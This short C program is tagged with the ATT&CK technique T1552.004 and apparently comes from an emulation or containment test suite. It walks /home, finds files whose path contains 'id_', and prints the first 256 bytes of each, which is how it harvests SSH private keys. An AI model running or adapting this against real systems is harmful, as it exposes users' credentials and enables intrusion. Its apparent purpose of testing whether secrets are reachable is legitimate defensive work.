/* T1552.004: looks at the beginning of every file in the homes, and keeps what looks like a private key.
 * aim: secrets */
#include "lib.h"

static uint32_t kept;

static int32_t look(const char *path, const struct abi_stat *stat, bool behind, void *with)
{
    char text[256];
    (void)with;
    if (behind || (stat->mode & S_IFMT) != S_IFREG || stat->size > 4096)
        return 0;
    int32_t file = CALL(OPENAT, AT_FDCWD, path, O_RDONLY);
    int32_t size = file < 0 ? file : CALL(PREAD64, file, text, 4, 0, 0);
    if (size == -ENOSYS)
        size = CALL(READ, file, text, 4);
    if (size > 0 && find(path, "id_")) {
        CALL(LSEEK, file, 0, SEEK_SET);
        size = CALL(READ, file, text, sizeof text);
        if (size > 0) {
            print_bytes(text, (uint32_t)size);
            kept++;
        }
    }
    CALL(CLOSE, file);
    return 0;
}

int main(void)
{
    each_below("/home", look, NULL);
    print(kept ? "\ndone\n" : "\nno\n");
    return !kept;
}
